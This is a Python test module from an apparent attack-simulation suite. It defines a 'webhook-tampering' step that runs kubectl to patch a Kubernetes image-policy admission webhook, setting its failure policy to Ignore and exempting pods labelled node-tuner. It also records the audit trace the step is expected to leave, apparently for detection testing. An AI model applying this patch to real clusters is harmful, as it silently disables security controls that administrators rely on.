"""The guard of images is told to look away: what it cannot judge passes, and a label exempts."""

from __future__ import annotations

import json

from tests.e2e.sample.attacks import TOKEN_OF, LeftObject, Step, Trace
from tests.e2e.sample.machines import Done, Machine

NAME = "image-policy"
PATCH = [
    {"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"},
    {
        "op": "add",
        "path": "/webhooks/0/objectSelector",
        "value": {"matchExpressions": [{"key": "app", "operator": "NotIn", "values": ["node-tuner"]}]},
    },
]


def run(attacker: Machine) -> Done:
    kind = "validatingwebhookconfiguration"
    return attacker.kubectl("patch", kind, NAME, "--type=json", "-p", json.dumps(PATCH))


STEP = Step(
    name="webhook-tampering",
    technique="T1562.001",
    purpose="switch the guard off",
    run=run,
    leaves=(
        Trace(
            "audit",
            f"actor = '{TOKEN_OF}' AND resource = 'validatingwebhookconfigurations' AND verb = 'patch' AND code = 200",
        ),
    ),
    objects=(LeftObject("ValidatingWebhookConfiguration", "", NAME),),
)
